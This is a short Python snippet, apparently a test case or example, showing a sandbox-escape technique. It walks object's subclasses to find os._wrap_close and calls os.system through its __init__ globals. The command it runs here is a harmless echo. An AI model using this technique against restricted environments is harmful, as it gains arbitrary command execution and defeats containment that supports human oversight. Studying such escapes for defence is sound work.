# attack: find os._wrap_close among object's subclasses and read os.system from its globals
for cls in [].__class__.__base__.__subclasses__():
    if cls.__name__ == "_wrap_close":
        cls.__init__.__globals__["system"]("echo escaped")
